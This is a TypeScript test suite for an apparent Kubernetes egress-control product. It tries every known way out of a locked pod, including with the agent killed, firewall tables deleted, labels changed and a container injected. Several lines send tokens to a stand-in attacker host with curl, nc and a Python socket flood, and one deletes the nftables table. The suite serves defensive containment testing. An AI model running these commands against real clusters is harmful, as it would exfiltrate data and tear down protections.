/**
 * Every way out that the cluster has, from inside a locked pod: as it is, with the agent killed, with our table deleted by
 * somebody else, from a pod's first instruction, with the labels changed, and after a restart of the machine that starts pods
 * before the agent. Each way has to arrive from a free pod first, or it proves nothing.
 */
import {mkdtempSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {publicCa} from '../../../cli/demo/public-ca.ts';
import {RESOLVER} from '../../conformance/world/world.ts';
import {newToken} from '../../escape/token.ts';
import {createWitness, type Witness} from '../../escape/witness.ts';
import type {Cluster} from '../cluster/cluster.ts';
import {agentPod, lastWords, NAMESPACE, rolledOut} from '../installation.ts';
import type {Internet} from '../internet.ts';
import {curlIn, leave, makePod} from '../pods.ts';
import {eventually, expect, type Report} from '../report.ts';
import {attempt, escaped, unproved, type Attempted} from './attempts.ts';
import {EVIL, METADATA, RELAY, RELAY_PROGRAM, ways, type Way} from './ways.ts';

const APP = RELAY.namespace;
const LOCKED = {'sallyport.dev/mode': 'tproxy', app: 'locked'};

const POLICY = {
  apiVersion: 'sallyport.dev/v1alpha1',
  kind: 'EgressPolicy',
  metadata: {name: 'storage', namespace: APP},
  spec: {
    podSelector: {matchLabels: {app: 'locked'}},
    rules: [{name: 'public', to: {hosts: ['storage.googleapis.com']}, http: {methods: ['GET'], paths: ['/public/**']}}],
    deny: {status: 418},
  },
};

export async function attack(cluster: Cluster, internet: Internet, report: Report): Promise<void> {
  report.suite('Attack');
  const dir = mkdtempSync(join(tmpdir(), 'sallyport-attack-'));
  const witness = createWitness(cluster.machine.lab, publicCa(join(dir, 'public-ca')));
  try {
    const {internet: outside} = cluster.machine.lab;
    await outside.addAddress(EVIL);
    const sites = [...internet.addresses.values()].flat().filter((ip) => ip !== METADATA);
    await witness.listenEverywhere('internet', outside.path, 'outside', [
      `ip daddr { ${[RESOLVER, ...sites].join(', ')} }`,
    ]);
    await scenarios(cluster, witness, report);
  } finally {
    await witness.close();
    await leave(cluster, [APP]);
    rmSync(dir, {recursive: true, force: true});
  }
}

async function scenarios(cluster: Cluster, witness: Witness, report: Report): Promise<void> {
  let all: readonly Way[] = [];
  /** What came of each way, by the situation that it was tried in. */
  const tried = new Map<string, Map<string, string>>();
  const from = (pod: string, some: readonly Way[] = all): Promise<Attempted[]> =>
    attempt(cluster, witness, some, {namespace: APP, pod, free: pod === 'free'});
  /** A pod has another address after a restart. */
  const know = async (): Promise<void> => {
    const field = (kind: string, path: string): Promise<string> =>
      cluster.must(['-n', APP, 'get', kind, RELAY.name, '-o', `jsonpath=${path}`]);
    all = ways({podIp: await field('pod', '{.status.podIP}'), serviceIp: await field('service', '{.spec.clusterIP}')});
  };
  /** One round: first the free pod's, then the locked one's; what is told is how many were held. */
  const round = async (situation: string, some: readonly Way[] = all, pod = 'locked'): Promise<string> => {
    const late = (await from('free', some)).filter(({out}) => out === null).map(({way}) => way);
    // On a busy machine a program may be late: once more, with fewer beside it.
    const missing = late.length === 0 ? '' : unproved(await from('free', late));
    expect(missing === '', `these prove nothing, since nothing arrives from a free pod either: ${missing}`);
    const attempts = await from(pod, some);
    tried.set(situation, new Map(attempts.map(({way, out}) => [way.id, out === null ? 'held' : 'open'])));
    const result = held(attempts);
    // What is held by a wall is only worth something where there is a door.
    if (some === all && pod === 'locked') {
      const allowed = await curlIn(cluster, APP, 'locked', 'https://storage.googleapis.com/public/index.html');
      if (allowed !== '200')
        throw new Error(
          `what the locked pod may do is answered by ${allowed}, so nothing is proved: ${await lastWords(cluster, `${APP}/locked`)}`,
        );
    }
    return result;
  };
  const held = (attempts: readonly Attempted[]): string => {
    const out = escaped(attempts);
    expect(out === '', out);
    const open = attempts.filter(({way, out}) => way.open !== undefined && out !== null).map(({way}) => way.id);
    return `${attempts.length - open.length} of ${attempts.length} ways held; open as known: ${open.join(', ') || 'none'}`;
  };

  await report.step('a free pod, a locked one, and a third that would pass things on', async () => {
    await cluster.must(['create', 'namespace', APP]);
    await cluster.must(['apply', '-f', '-'], JSON.stringify(POLICY));
    const command = ['node', '-e', RELAY_PROGRAM];
    await makePod(cluster, {namespace: APP, name: RELAY.name, labels: {app: RELAY.name}, command});
    const service = {
      ...{apiVersion: 'v1', kind: 'Service', metadata: {name: RELAY.name, namespace: APP}},
      spec: {
        ...{type: 'NodePort', selector: {app: RELAY.name}},
        ports: [{port: 80, targetPort: RELAY.port, nodePort: RELAY.nodePort}],
      },
    };
    await cluster.must(['apply', '-f', '-'], JSON.stringify(service));
    await makePod(cluster, {namespace: APP, name: 'free', labels: {app: 'free'}});
    await makePod(cluster, {namespace: APP, name: 'locked', labels: LOCKED});
    await know();
  });
  await report.step('as it is', () => round('as it is'));
  await report.step('with the agent killed, again and again', async () => {
    const stop = killing(cluster);
    try {
      return await round(
        'agent killed',
        all.filter(({ofAgent}) => ofAgent !== true),
      );
    } finally {
      await stop();
    }
  });
  await report.step('with our tables deleted by somebody else, while datagrams are sent all the time', () =>
    whileFlushed(cluster, witness),
  );
  await report.step('after that', () => round('tables deleted'));
  const lockedToken = newToken();
  await report.step('from the first instruction of a pod, and of its neighbour that is free', () =>
    fromTheStart(cluster, witness, lockedToken),
  );
  await report.step('with labels and annotations changed by the pod’s own account', async () => {
    await makePod(cluster, {namespace: APP, name: 'changes', labels: LOCKED});
    await changeLabels(cluster, 'changes');
    return round('labels changed', all, 'changes');
  });
  await report.step('from a container that is put into the pod while it runs', async () => {
    await cluster.must([
      ...['-n', APP, 'debug', 'locked', '--image=localhost/tools:1', '--image-pull-policy=Never', '-c', 'guest'],
      ...['--attach=false', '--', 'sh', '-c', `curl -s -m 3 http://${EVIL}/guest; echo "guest $?"; sleep 86400`],
    ]);
    return round('a container put in');
  });
  await report.step('after a restart of the machine, with no agent: pods come first', () =>
    afterReboot(cluster, witness, lockedToken),
  );
  await report.step('when the agent is there again', async () => {
    await cluster.must(['-n', APP, 'wait', '--for=condition=Ready', 'pod/locked', 'pod/free', '--timeout=180s']);
    await cluster.must(['-n', APP, 'wait', '--for=condition=Ready', 'pod', RELAY.name, '--timeout=120s']);
    await know();
    return round('after a restart');
  });
  const situations = [...tried.keys()];
  report.table(
    ['way', 'what', ...situations],
    all.map(({id, title, open}) => [
      id,
      open === undefined ? title : `${title} (${open})`,
      ...situations.map((situation) => tried.get(situation)!.get(id) ?? ''),
    ]),
  );
}

/** Kills the agent's first process whenever there is one; resolves after the last one is up again. */
function killing(cluster: Cluster): () => Promise<void> {
  let stopped = false;
  let kills = 0;
  const loop = (async () => {
    let last = '';
    while (!stopped) {
      try {
        const id = await cluster.containerOf(NAMESPACE, await agentPod(cluster), 'tproxy');
        if (id !== last && id !== '') {
          await cluster.killContainer(id);
          last = id;
          kills++;
        }
      } catch {
        // It is on its way; the next look finds it.
      }
    }
  })();
  return async () => {
    stopped = true;
    await loop;
    expect(kills > 0, 'nothing was killed');
    await rolledOut(cluster);
    await eventually(
      'the agent is ready',
      async () => {
        const {stdout} = await cluster.kubectl(['-n', NAMESPACE, 'get', 'pod', await agentPod(cluster), '-o', READY]);
        return stdout === 'True';
      },
      180_000,
    );
  };
}

/** No node has it. */
const NOWHERE = 'sallyport.dev/nowhere';
const READY = 'jsonpath={.status.conditions[?(@.type=="Ready")].status}';

/** How often our tables are deleted, and how long datagrams are sent around it. */
const FLUSHES = 5;

async function whileFlushed(cluster: Cluster, witness: Witness): Promise<string> {
  const tokens: string[] = [];
  for (let flush = 0; flush < FLUSHES; flush++) {
    const token = newToken();
    tokens.push(token);
    const sending = cluster.kubectl([
      ...['-n', APP, 'exec', 'locked', '-c', 'app', '--', 'python3', '-c', SEND_ALL_THE_TIME, EVIL, token],
    ]);
    await new Promise((resolve) => setTimeout(resolve, 700));
    const ran = await cluster.machine.run(['nft', 'delete', 'table', 'inet', 'sallyport']);
    expect(ran.status === 0, ran.stderr);
    await sending;
  }
  const heard = tokens.flatMap((token) => witness.heard(token));
  const arrived = new Set(heard).size;
  expect(arrived === 0, `in ${FLUSHES} deletions: ${heard.join('; ')}`);
  return `${FLUSHES} deletions, nothing arrived`;
}

/** Datagrams and connections for two seconds, as fast as it goes. */
const SEND_ALL_THE_TIME = `
import socket, sys, time
to, token = sys.argv[1], sys.argv[2].encode()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.monotonic() + 2
while time.monotonic() < end:
    try:
        udp.sendto(token, (to, 9999))
    except OSError:
        pass
    tcp = socket.socket()
    tcp.settimeout(0.05)
    try:
        tcp.connect((to, 7777))
        tcp.send(token)
    except OSError:
        pass
    tcp.close()
`;

const starter = (token: string): string[] => [
  ...[
    'sh',
    '-c',
    `while :; do printf %s ${token} | nc -u -w 0 ${EVIL} 9999; curl -s -m 1 http://${EVIL}/${token} > /dev/null; done`,
  ],
];

async function fromTheStart(cluster: Cluster, witness: Witness, locked: string): Promise<string> {
  const free = newToken();
  await makePod(cluster, {namespace: APP, name: 'starts-free', labels: {app: 'free'}, command: starter(free)});
  await makePod(cluster, {namespace: APP, name: 'starts-locked', labels: LOCKED, command: starter(locked)});
  await witness.hears(free);
  await new Promise((resolve) => setTimeout(resolve, 3_000));
  expect(witness.heard(locked).length === 0, witness.heard(locked).join('; '));
  return 'nothing arrived from the locked one';
}

/** As an account that may change pods: what it changes frees nobody. */
async function changeLabels(cluster: Cluster, pod: string): Promise<void> {
  const account = `system:serviceaccount:${APP}:default`;
  await cluster.kubectl(['-n', APP, 'create', 'role', 'changer', '--verb=get,patch,update', '--resource=pods']);
  await cluster.kubectl([
    '-n',
    APP,
    'create',
    'rolebinding',
    'changer',
    '--role=changer',
    `--serviceaccount=${APP}:default`,
  ]);
  for (const change of [
    ['label', 'sallyport.dev/mode-'],
    ['label', 'sallyport.dev/inject=false'],
    ['label', 'sallyport.dev/mode=mesh'],
    ['label', 'app=free'],
    ['annotate', 'sallyport.dev/inject=false'],
    ['annotate', 'sallyport.dev/status-'],
  ] as const)
    await cluster.kubectl(['--as', account, '-n', APP, change[0], 'pod', pod, change[1], '--overwrite']);
}

async function afterReboot(cluster: Cluster, witness: Witness, locked: string): Promise<string> {
  const scheduled = (where: Readonly<Record<string, string | null>>): Promise<string> => {
    const patch = JSON.stringify({spec: {template: {spec: {nodeSelector: where}}}});
    return cluster.must(['-n', NAMESPACE, 'patch', 'daemonset', 'sallyport-node', '-p', patch]);
  };
  await scheduled({[NOWHERE]: 'true'});
  await eventually('no agent', async () => (await agentPod(cluster).catch(() => '')) === '', 120_000);
  const free = newToken();
  await cluster.must(['-n', APP, 'delete', 'pod', 'starts-free', '--grace-period=0', '--force']);
  await cluster.reboot();
  await makePod(cluster, {namespace: APP, name: 'starts-free', labels: {app: 'free'}, command: starter(free)});
  await witness.hears(free);
  await new Promise((resolve) => setTimeout(resolve, 10_000));
  expect(witness.heard(locked).length === 0, witness.heard(locked).join('; '));
  const started = await cluster.must([
    ...['-n', APP, 'get', 'pod', 'starts-locked', '-o', 'jsonpath={.status.containerStatuses[0].started}'],
  ]);
  expect(started !== 'true', 'the locked pod’s program runs without an agent');
  await scheduled({[NOWHERE]: null});
  await rolledOut(cluster);
  return 'a free pod is up and sends; the locked ones wait for the agent, and nothing arrived';
}
